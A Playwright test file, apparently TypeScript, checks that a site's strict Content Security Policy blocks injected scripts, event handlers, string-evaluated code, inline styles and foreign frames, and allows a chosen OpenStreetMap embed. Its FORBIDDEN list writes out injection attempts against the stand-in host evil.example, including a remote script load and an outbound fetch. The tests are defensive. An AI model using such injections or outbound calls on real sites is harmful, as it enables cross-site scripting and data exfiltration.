/** The strict policy of every page, as a header and in the page, forbids nothing that the site does, and all else. */
import { expect, rootUrl, test } from './fixtures.ts';
import { expectViolation, policyViolations, recordPolicyViolations } from './policy.ts';
import { SPECIMEN } from './sample.ts';

test.beforeEach(({ page }) => recordPolicyViolations(page));

test('the app keeps to it on the way from page to page', async ({ page, visit }) => {
  await visit('/');
  const heading = page.getByRole('heading', { level: 1 });
  const front = await heading.innerText();
  await page.getByRole('main').getByRole('article').getByRole('link').first().click();
  await expect(heading).not.toHaveText(front);
  const first = await heading.innerText();
  await page.getByRole('navigation', { name: 'Related' }).getByRole('link').first().click();
  await expect(heading).not.toHaveText(first);
  await page.goBack();
  await expect(heading).toHaveText(first);
  expect(await policyViolations(page)).toEqual([]);
});

test('an embed of a host that the site names is let in when the reader has chosen it', async ({
  page,
  visit,
  complaints,
}) => {
  complaints.allow(/^request: https:\/\/www\.openstreetmap\.org/);
  await page.route('https://www.openstreetmap.org/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Map</title><p>A map</p>' }),
  );
  await visit(SPECIMEN);
  await page.getByRole('button', { name: 'Load from OpenStreetMap' }).click();
  await expect(page.frameLocator('iframe').getByText('A map')).toBeVisible();
  expect(await policyViolations(page)).toEqual([]);
});

/** What a script in the site's name would try. */
const FORBIDDEN: readonly [what: string, directive: string, attempt: () => void][] = [
  ['a script in the page', 'script-src-elem', () => { const script = document.createElement('script'); script.textContent = 'window.x=1'; document.body.append(script); }],
  ['a script of another host', 'script-src-elem', () => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script); }],
  ['an event handler', 'script-src-attr', () => { const button = document.createElement('button'); button.setAttribute('onclick', 'window.x=1'); document.body.append(button); button.click(); }],
  ['words made code', 'script-src', () => { const later: (code: string) => unknown = setTimeout; later('window.x=1'); }],
  ['a style sheet in the page', 'style-src-elem', () => { const style = document.createElement('style'); style.textContent = 'p{color:red}'; document.head.append(style); }],
  ['a frame of another host', 'frame-src', () => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); }],
  ['words sent elsewhere', 'connect-src', () => { fetch('https://evil.example/').catch(() => undefined); }],
  ['another base', 'base-uri', () => { const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base); }],
]; // prettier-ignore

/** How Chromium tells in the console of what a policy forbids. */
const FORBIDS = /Content Security Policy/;

for (const [what, directive, attempt] of FORBIDDEN)
  test(`${what} is refused`, async ({ page, visit, complaints }) => {
    complaints.allow(FORBIDS, /^request: https:\/\/evil\.example\//);
    await visit('/');
    await page.evaluate(attempt);
    await expectViolation(page, directive);
    expect(await page.evaluate(() => 'x' in window)).toBe(false);
  });

test('without the header, as on a host that sends none, the page alone forbids the same', async ({
  page,
  visit,
  complaints,
}) => {
  await page.route(rootUrl, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await visit('/');
  expect(complaints.all).toEqual([]);
  complaints.allow(FORBIDS);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.x=1';
    document.body.append(script);
  });
  await expectViolation(page, 'script-src-elem');
  expect(await page.evaluate(() => 'x' in window)).toBe(false);
});
